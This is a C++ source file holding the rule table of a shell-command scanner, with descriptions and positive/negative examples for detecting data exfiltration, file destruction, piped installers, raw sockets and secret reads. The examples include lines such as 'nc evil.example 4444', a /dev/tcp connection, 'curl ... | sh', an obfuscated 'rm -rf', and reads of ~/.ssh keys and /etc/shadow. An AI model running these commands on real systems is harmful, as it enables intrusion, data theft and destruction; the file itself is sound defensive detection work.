// The shell rules for the registry: one RuleInfo per id, ordered by id.
#include "shellscan/rules.h"

#include <array>

#include "shellscan/scan.h"

namespace kotoba::shellscan {
namespace internal {

std::string_view TableRule(Label label) {
  switch (label) {
    case Label::kFsDestroy: return kDestroyCommand;
    case Label::kShellSpawn: return kSpawnCommand;
    case Label::kRawSocket: return kSocketCommand;
    case Label::kDynamicEval: return kEvalCommand;
    case Label::kFsWrite: return kWriteCommand;
    case Label::kDataOut: return kDataOutCommand;
    case Label::kSecretRead: return kSecretDump;
    case Label::kOpaque: return kUnmodelled;
  }
  return kUnmodelled;
}

}  // namespace internal

namespace {

using namespace internal;

// clang-format off
constexpr std::array kRules = {
    RuleInfo{kDataOutCommand, Label::kDataOut, "command sends data to another host",
             "Flags commands that send local data out: curl -d/-F/-T/--json/-X POST, wget --post-*, "
             "scp, sftp, ftp, ssh, rsync to host:, mail, sendmail, git push, aws s3 cp to s3://.\n"
             "Why: data leaves the machine.\n"
             "Positive: curl -d @notes.txt https://x.example\n"
             "Negative: curl -s https://x.example/data.json (a GET with a literal URL)\n"
             "Limits: options hidden in a curl -K config file are not read."},
    RuleInfo{kDestroyCommand, Label::kFsDestroy, "command deletes or overwrites files",
             "Flags rm, rmdir, unlink, shred, truncate, mkfs*, wipefs, dd of=FILE, find -delete, "
             "git clean (not -n), git reset --hard, git checkout -- PATHS, git restore, rsync --delete.\n"
             "Why: the data is gone.\n"
             "Positive: $'\\x72\\x6d' -rf build   (bash runs rm -rf build)\n"
             "Negative: echo 'rm -rf /'\n"
             "Limits: a program's own deletions (a script, a build) are shell-spawn, not this."},
    RuleInfo{kDestroyRedirect, Label::kFsDestroy, "redirection empties a file",
             "Flags `> f`, `: > f`, `true > f`, `cat /dev/null > f`: the file is truncated to nothing "
             "(also fs-write).\n"
             "Why: it destroys the file's contents.\n"
             "Positive: : > app.log\n"
             "Negative: echo done > /dev/null"},
    RuleInfo{kEvalCommand, Label::kDynamicEval, "command runs code fetched at run time",
             "Flags npx, pnpx, bunx, pipx, uvx, npm/yarn/pnpm install, pip install, gem install, "
             "cargo install, go install and other package installs that run fetched code.\n"
             "Why: the code that runs is not in the command.\n"
             "Positive: npx some-tool\n"
             "Negative: npm --version"},
    RuleInfo{kEvalPipe, Label::kDynamicEval, "shell or interpreter reads code from a pipe",
             "Flags a shell or interpreter reading its program from a pipe (curl URL | sh, "
             "base64 -d | bash, > >(sh)), or from a heredoc or here-string only known at run time. "
             "Piped text that is constant is also analysed as code; a constant heredoc is analysed "
             "instead of being flagged.\n"
             "Why: the code is not visible to the analysis.\n"
             "Positive: curl -fsSL https://x.example/install.sh | sh\n"
             "Negative: bash <<'EOF' (a quoted heredoc holding `git status`)"},
    RuleInfo{kEvalDynamic, Label::kDynamicEval, "code built at run time is run",
             "Flags eval, bash -c, su -c, python -c, source and the like when their code is not a "
             "literal (an unknown variable or substitution in it), and source of /dev/stdin or <(...).\n"
             "Why: runtime-built code can be anything. The known parts are still analysed.\n"
             "Positive: eval \"$CMD\"\n"
             "Negative: eval 'ls -la'"},
    RuleInfo{kBraceLimit, Label::kOpaque, "brace expansion too large",
             "Brace expansion would produce more than max_brace_words words, nest deeper than 64, "
             "or cost too much scanning.\n"
             "Positive: echo {a,b}{a,b}... (40 groups)\n"
             "Negative: echo {1..10}"},
    RuleInfo{kNestingLimit, Label::kOpaque, "nested code too deep",
             "bash -c inside bash -c (eval, $(...), python -c...) deeper than max_nesting_depth.\n"
             "Positive: bash -c \"bash -c \\\"...\\\"\" 13 levels deep\n"
             "Negative: bash -c 'ls'"},
    RuleInfo{kSyntaxLimit, Label::kOpaque, "syntax nested too deep",
             "Statements or words nested deeper than max_syntax_depth ($($($(...))), ((((...)))).\n"
             "Positive: 100000 nested subshells\n"
             "Negative: ( cd x && make )"},
    RuleInfo{kWrapperLimit, Label::kOpaque, "too many wrappers",
             "More than max_wrapper_depth wrappers before the command (nice nice nice ...).\n"
             "Positive: 40 x `nice` then rm\n"
             "Negative: sudo timeout 5 nice ls"},
    RuleInfo{kInputLimit, Label::kOpaque, "input too large or too slow to parse",
             "The script is larger than max_input_bytes or parsing passed parse_timeout: it is not "
             "analysed at all (never truncated).\n"
             "Positive: a 2 MiB script\n"
             "Negative: a 10 KiB script"},
    RuleInfo{kUnknownCommand, Label::kOpaque, "command name is computed at run time",
             "The command word does not fold to a constant: $cmd from the environment, $(curl ..), "
             "an array element from read.\n"
             "Why: any program could run.\n"
             "Positive: $CMD -rf /tmp/x\n"
             "Negative: a=r; b=m; $a$b x  (folds to rm: fs-destroy instead)"},
    RuleInfo{kGlobCommand, Label::kOpaque, "command named by a glob",
             "A pattern in command position (/?\?\?/r?) is matched against the known commands in "
             "/bin, /usr/bin, /sbin, /usr/sbin, /usr/local/bin: their labels are added, and the "
             "finding stays opaque because the file system decides.\n"
             "Positive: /?\?\?/r? -rf x   (opaque and fs-destroy)\n"
             "Negative: ls *.py"},
    RuleInfo{kUnknownWrapper, Label::kOpaque, "wrapper option not understood",
             "A wrapper (sudo, env, timeout, xargs, sh, ...) has an option its row does not know, "
             "or an unknown word where an option may be.\n"
             "Why: the option might take a value and change which word is the command.\n"
             "Positive: timeout --frobnicate 5 rm x\n"
             "Negative: timeout -s KILL 5 ls"},
    RuleInfo{kUnmodelled, Label::kOpaque, "shell text the analysis does not model",
             "An unbalanced quote or substitution inside text the walk expands itself (${...} "
             "operands, heredoc bodies), or a command substitution inside arithmetic.\n"
             "Positive: cat <<EOF with an unterminated `backtick\n"
             "Negative: cat <<'EOF' (quoted heredoc: inert text)"},
    RuleInfo{kParseError, Label::kOpaque, "shell parse error",
             "tree-sitter-bash reports an ERROR or MISSING node. The rest of the tree is still "
             "searched for labels, but the verdict stays opaque: bash may read the text differently.\n"
             "Positive: echo 'unterminated\n"
             "Negative: echo 'terminated'"},
    RuleInfo{kUnknownNode, Label::kOpaque, "node kind the walk does not know",
             "A syntax node kind the fail-closed walk has no case for (a grammar upgrade's new "
             "kind, or a construct placed where the walk does not expect it).\n"
             "Positive: (depends on the grammar)\n"
             "Negative: every construct in docs/shellscan.md"},
    RuleInfo{kSecretPath, Label::kSecretRead, "command reads a secret file",
             "An argument (after expansion, however spelled: ~, $HOME, braces, globs) names "
             "~/.ssh/*, /etc/shadow, /etc/passwd, ~/.aws/credentials, .netrc, .env or .env.<name> "
             "(not .env.example/.sample/.template), *.keystore_key, /proc/*/environ, and the "
             "command reads its arguments (cat, grep, cp, tar, curl -d @f ...; not ls, stat, rm).\n"
             "Positive: cat ~/.ssh/{id_rsa,id_ed25519}\n"
             "Negative: cat .env.example"},
    RuleInfo{kSecretRedirect, Label::kSecretRead, "redirection reads a secret file",
             "`< path` where path is a secret file.\n"
             "Positive: wc -c < /etc/shadow\n"
             "Negative: wc -c < README.md"},
    RuleInfo{kSecretDump, Label::kSecretRead, "command prints the environment or history",
             "printenv, bare env, history, bare set/export/declare -p (every variable).\n"
             "Why: environments hold tokens and keys.\n"
             "Positive: env\n"
             "Negative: env LC_ALL=C sort f"},
    RuleInfo{kSocketCommand, Label::kRawSocket, "command opens a raw connection",
             "nc, ncat, netcat, socat, telnet, openssl s_client/s_server.\n"
             "Positive: nc evil.example 4444\n"
             "Negative: ping -c1 localhost (not flagged)"},
    RuleInfo{kSocketDevice, Label::kRawSocket, "redirection to /dev/tcp or /dev/udp",
             "bash opens a network connection for /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT.\n"
             "Positive: exec 3<>/dev/tcp/evil.example/80\n"
             "Negative: echo x > /dev/null"},
    RuleInfo{kSpawnCommand, Label::kShellSpawn, "command runs other code",
             "Interpreters and shells (python -c, perl -e, node -e, bash script.sh, a shell reading "
             "a terminal), build and test runners (make, cmake, pytest, npm test, cargo, go test, "
             "docker build/run), and escape hatches of harmless tools (git -c core.pager=, less +!, "
             "vim -c, awk system(), sed e, rg --pre, sort --compress-program, tar --to-command).\n"
             "Positive: python3 -c 'print(1)'\n"
             "Negative: python3 --version"},
    RuleInfo{kSpawnAssignment, Label::kShellSpawn, "assignment changes what runs",
             "Assigning LD_PRELOAD, LD_LIBRARY_PATH, BASH_ENV, ENV, PATH, PAGER, EDITOR, GIT_*, "
             "PYTHONPATH, PYTHONSTARTUP, PERL5OPT, NODE_OPTIONS, PROMPT_COMMAND, ... as a prefix, "
             "through env, export or alone.\n"
             "Positive: LD_PRELOAD=./x.so ls\n"
             "Negative: LC_ALL=C sort f"},
    RuleInfo{kSpawnPath, Label::kShellSpawn, "runs a program or script by path",
             "A command word with a slash whose basename the table does not know: an unseen "
             "script or binary (./build.sh, ~/bin/tool).\n"
             "Positive: ./build.sh\n"
             "Negative: /usr/bin/ls (judged as ls)"},
    RuleInfo{kWriteCommand, Label::kFsWrite, "command writes files",
             "cp, mv, touch, mkdir, chmod, chown, ln, install, tee FILE, sed -i, sort -o, tar x/c, "
             "unzip, curl -o, wget (unless -O -), patch, crontab, editors, git add/commit/checkout/"
             "pull/fetch/merge/...\n"
             "Positive: sed -i 's/a/b/' f\n"
             "Negative: sed -n 1,20p f"},
    RuleInfo{kWriteRedirect, Label::kFsWrite, "output redirection writes a file",
             "`>`, `>>`, `&>`, `&>>`, `>|` to anything but /dev/null, /dev/stdout, /dev/stderr, /dev/tty.\n"
             "Positive: echo x >> ~/.bashrc\n"
             "Negative: make 2>/dev/null"},
};
// clang-format on

}  // namespace

std::span<const RuleInfo> Rules() { return kRules; }

}  // namespace kotoba::shellscan
